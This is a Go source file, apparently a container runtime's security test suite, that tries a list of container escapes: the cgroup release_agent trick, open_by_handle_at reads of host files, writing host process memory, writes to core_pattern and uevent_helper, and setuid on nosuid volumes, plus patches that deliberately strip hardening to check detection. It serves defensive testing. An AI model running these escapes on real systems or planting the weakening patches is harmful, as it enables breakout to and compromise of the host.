package escape

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// unfiltered leaves the capabilities alone before the attack.
var unfiltered = []string{"--security-opt", "seccomp=unconfined"}

// What a process may ask of the kernel: capabilities, system calls, files of the kernel.
var kernelWays = []way{
	{
		name: "mount inside", build: "capabilities",
		cuts: []cut{{"security/caps.go", `"CAP_CHOWN", "CAP_DAC_OVERRIDE", "CAP_FSETID",`, `"CAP_SYS_ADMIN", "CAP_SYS_PTRACE", "CAP_DAC_READ_SEARCH", "CAP_BPF", "CAP_CHOWN", "CAP_DAC_OVERRIDE", "CAP_FSETID",`}},
		try:  func(s *scene) string { return s.attack(unfiltered, "mount") },
	}, {
		name: "release_agent", build: "capabilities",
		try: func(s *scene) string {
			agent := s.write("agent", "#!/bin/sh\necho released >"+s.dir+"/marker\n")
			os.Chmod(agent, 0o755)
			flags := append([]string{"--rm", "--cgroupns", "host", "-v", s.dir + ":/scene"}, unfiltered...)
			return s.refusedOr(s.run(s.line("run", "busybox", flags, "release", agent)...))
		},
	}, {
		name: "bpf", build: "capabilities",
		try: func(s *scene) string { return s.attack(unfiltered, "bpf") },
	}, {
		name: "file handle", build: "capabilities",
		try: func(s *scene) string {
			handle, _, err := unix.NameToHandleAt(unix.AT_FDCWD, s.write("secret", "of the host"), 0)
			if err != nil {
				s.Fatal(err)
			}
			return s.attack(append(unfiltered, "-v", s.mkdir("shown")+":/shown"), "handle", "/shown", fmt.Sprint(handle.Type()), fmt.Sprintf("%x", handle.Bytes()))
		},
	}, {
		name: "memory of a process of the host", build: "capabilities",
		try: func(s *scene) string {
			victim := exec.Command("sleep", "60")
			if err := victim.Start(); err != nil {
				s.Fatal(err)
			}
			defer victim.Wait()
			defer victim.Process.Kill()
			return s.attack(append(unfiltered, "--pid", "host"), "memory", fmt.Sprint(victim.Process.Pid))
		},
	}, {
		name: "user namespace inside", build: "kernel",
		cuts: []cut{{"spec/security.go", `case named == "unconfined", named == "" && privileged:`, `case named == "unconfined", named == "":`}},
		try:  func(s *scene) string { return s.attack(nil, "inner", "mount") },
	}, {
		name: "keyring of the user", build: "kernel",
		try: func(s *scene) string {
			key, err := unix.AddKey("user", s.dir, []byte("the user's"), unix.KEY_SPEC_USER_KEYRING)
			if err != nil {
				s.Skip("the kernel has no keyrings: ", err)
			}
			defer unix.KeyctlInt(unix.KEYCTL_UNLINK, key, unix.KEY_SPEC_USER_KEYRING, 0, 0)
			return s.attack(nil, "key", "user", s.dir)
		},
	}, {
		name: "userfaultfd", build: "kernel", needs: absent(unix.SYS_USERFAULTFD, 1 /* UFFD_USER_MODE_ONLY */),
		try: func(s *scene) string { return s.attack(nil, "call", fmt.Sprint(unix.SYS_USERFAULTFD), "1") },
	}, {
		name: "io_uring", build: "kernel", needs: absent(unix.SYS_IO_URING_SETUP, 1, uintptr(unsafe.Pointer(&ringParameters))),
		try: func(s *scene) string { return s.attack(nil, "call", fmt.Sprint(unix.SYS_IO_URING_SETUP), "1") },
	}, {
		name: "vsock", build: "kernel", needs: absent(unix.SYS_SOCKET, unix.AF_VSOCK, unix.SOCK_STREAM),
		try: func(s *scene) string {
			return s.attack(nil, "call", fmt.Sprint(unix.SYS_SOCKET), fmt.Sprint(unix.AF_VSOCK), fmt.Sprint(unix.SOCK_STREAM))
		},
	}, {
		name: "writes through proc", build: "kernel",
		cuts: []cut{{"runtime/init.go", "rootfs.MakeReadOnly(root, linux.ReadonlyPaths)", "rootfs.MakeReadOnly(root, nil)"}},
		try: func(s *scene) string {
			return s.attack(nil, "write", "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/vm/drop_caches", "/proc/irq/default_smp_affinity")
		},
	}, {
		name: "writes through sys", build: "kernel",
		cuts: []cut{{"spec/mounts.go", `sys := append(hardened, "ro")`, `sys := hardened`}},
		try: func(s *scene) string {
			return s.attack(nil, "write", "/sys/kernel/uevent_helper", "/sys/power/state", "/sys/kernel/mm/transparent_hugepage/enabled", "/sys/kernel/mm/ksm/run",
				"/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/memory/cgroup.procs", "/sys/fs/cgroup/memory/memory.limit_in_bytes")
		},
	}, {
		name: "reads of masked files", build: "kernel",
		cuts: []cut{{"runtime/init.go", "cover.Mask(root, linux.MaskedPaths)", "cover.Mask(root, nil)"}},
		try:  func(s *scene) string { return s.attack(nil, "masked") },
	}, {
		name: "proc mounted anew", build: "kernel",
		try: func(s *scene) string { return s.attack(unfiltered, "inner", "proc") },
	}, {
		name: "setuid on a nosuid volume", build: "kernel",
		cuts: []cut{{"rootfs/options.go", `{"nosuid", "suid", unix.MOUNT_ATTR_NOSUID}`, `{"nosuid", "suid", 0}`}},
		try: func(s *scene) string {
			name := "v-" + filepath.Base(s.dir)
			s.ok("volume", "create", "-o", "type=tmpfs", "-o", "device=tmpfs", "-o", "o=nosuid", name)
			defer s.ok("volume", "rm", name)
			return s.attack([]string{"-v", name + ":/volume"}, "setuid", "/volume/suid", "/dev/shm/suid")
		},
	},
}

// absent gives a test of whether the kernel has a system call that gives a descriptor.
func absent(number uintptr, args ...uintptr) func() string {
	return func() string {
		var a [3]uintptr
		copy(a[:], args)
		fd, _, errno := unix.Syscall(number, a[0], a[1], a[2])
		if errno != 0 {
			return fmt.Sprintf("root of the host cannot do it either: %v", errno)
		}
		unix.Close(int(fd))
		return ""
	}
}

var ringParameters [120]byte // struct io_uring_params

func init() {
	attacks["mount"] = mountInside
	attacks["release"] = releaseAgent
	attacks["bpf"] = bpfMap
	attacks["handle"] = openHandle
	attacks["memory"] = memoryOf
	attacks["inner"] = inner
	attacks["proc"] = mountProc
	attacks["call"] = call
	attacks["write"] = openForWriting
	attacks["setuid"] = setuid
	attacks["euid"] = func([]string) string { return fmt.Sprintf("euid %d", os.Geteuid()) }
}

func mountInside([]string) string {
	if err := unix.Mount("tmpfs", "/root", "tmpfs", 0, ""); err != nil {
		return held("mount: %v", err)
	}
	return "a tmpfs is mounted"
}

// inner plays an attack as root of a new user namespace.
func inner(args []string) string {
	cmd := exec.Command("/proc/self/exe", append([]string{"attack"}, args...)...)
	cmd.SysProcAttr = &syscall.SysProcAttr{
		Cloneflags:  unix.CLONE_NEWUSER | unix.CLONE_NEWNS | unix.CLONE_NEWPID,
		UidMappings: []syscall.SysProcIDMap{{Size: 1}}, GidMappings: []syscall.SysProcIDMap{{Size: 1}},
	}
	out, err := cmd.CombinedOutput()
	fmt.Printf("inside: %s %v\n", out, err)
	if _, how, ok := strings.Cut(string(out), "OUT "); ok {
		return "in a user namespace: " + strings.TrimSpace(how)
	}
	return ""
}

// mountProc mounts a proc file system in which nothing is hidden or read-only.
func mountProc([]string) string {
	if err := unix.Mount("proc", "/root", "proc", 0, ""); err != nil {
		return held("mount: %v", err)
	}
	return cmpEmpty(openForWriting([]string{"/root/sys/kernel/core_pattern"}), "a proc file system without masks is mounted")
}

func cmpEmpty(how, otherwise string) string {
	if how == "" {
		return otherwise
	}
	return how
}

// releaseAgent makes a cgroup hierarchy of version 1 of its own, and has the kernel
// execute a program on the host when a group in it becomes empty.
func releaseAgent(args []string) string {
	if err := unix.Mount("escape", "/root", "cgroup", 0, "none,name=escape"+strconv.Itoa(int(time.Now().UnixNano()%1e9))); err != nil {
		return held("mount: %v", err)
	}
	defer func() {
		os.Remove("/root/child")
		time.Sleep(300 * time.Millisecond) // a hierarchy whose last group the kernel has yet to release stays for good
		unix.Unmount("/root", 0)
	}()
	for _, write := range [][2]string{{"release_agent", args[0]}, {"child/notify_on_release", "1"}} {
		os.Mkdir("/root/child", 0o755)
		if err := os.WriteFile("/root/"+write[0], []byte(write[1]), 0); err != nil {
			return held("%v", err)
		}
	}
	if err := exec.Command("/bin/sh", "-c", "echo $$ >/root/child/cgroup.procs").Run(); err != nil {
		return held("%v", err)
	}
	for range 200 {
		if _, err := os.Stat("/scene/marker"); err == nil {
			return "the kernel has executed " + args[0] + " on the host"
		}
		time.Sleep(10 * time.Millisecond)
	}
	return ""
}

func bpfMap([]string) string {
	attr := [16]uint32{unix.BPF_MAP_TYPE_ARRAY, 4, 4, 1}
	_, _, errno := unix.Syscall(unix.SYS_BPF, unix.BPF_MAP_CREATE, uintptr(unsafe.Pointer(&attr)), unsafe.Sizeof(attr))
	if errno != 0 {
		return held("bpf: %v", errno)
	}
	return "bpf has made a map"
}

// openHandle opens a file of the host by its handle, which can be guessed, on a file
// system of which the container sees a part.
func openHandle(args []string) string {
	mount, err := unix.Open(args[0], unix.O_RDONLY, 0)
	if err != nil {
		return err.Error()
	}
	kind, _ := strconv.Atoi(args[1])
	var id []byte
	fmt.Sscanf(args[2], "%x", &id)
	fd, err := unix.OpenByHandleAt(mount, unix.NewFileHandle(int32(kind), id), unix.O_RDONLY)
	if err != nil {
		return held("open_by_handle_at: %v", err)
	}
	text := make([]byte, 100)
	n, _ := unix.Read(fd, text)
	return fmt.Sprintf("a file of the host's: %q", text[:n])
}

func memoryOf(args []string) string {
	file, err := os.OpenFile("/proc/"+args[0]+"/mem", os.O_RDWR, 0)
	if err == nil {
		file.Close()
		return "the memory of a process of the host is open for writing"
	}
	pid, _ := strconv.Atoi(args[0])
	if attach := unix.PtraceAttach(pid); attach == nil {
		unix.PtraceDetach(pid)
		return "a process of the host is traced"
	}
	return held("%v", err)
}

// call makes a system call that gives a descriptor.
func call(args []string) string {
	var a [3]uintptr
	for i, arg := range args {
		n, _ := strconv.Atoi(arg)
		a[i] = uintptr(n)
	}
	if a[0] == unix.SYS_IO_URING_SETUP {
		a[2] = uintptr(unsafe.Pointer(&ringParameters))
	}
	if _, _, errno := unix.Syscall(a[0], a[1], a[2], 0); errno != 0 {
		return held("%v", errno)
	}
	return "the kernel has answered"
}

// openForWriting opens files for writing, and no more.
func openForWriting(paths []string) string {
	for _, path := range paths {
		file, err := os.OpenFile(path, os.O_WRONLY, 0)
		if err == nil {
			file.Close()
			return path + " is open for writing"
		}
		fmt.Println(err)
	}
	return ""
}

// setuid makes copies of this program that belong to root and take their owner's
// rights, and executes them as another user.
func setuid(paths []string) string {
	plant(paths)
	for _, path := range paths {
		cmd := exec.Command(path, "attack", "euid")
		cmd.Dir = "/"
		cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 1000, Gid: 1000}}
		out, err := cmd.CombinedOutput()
		os.Remove(path)
		if strings.Contains(string(out), "euid 0") {
			return "user 1000 has become root by " + path
		}
		fmt.Println(path, strings.TrimPrefix(string(out), "OUT"), err)
	}
	return ""
}
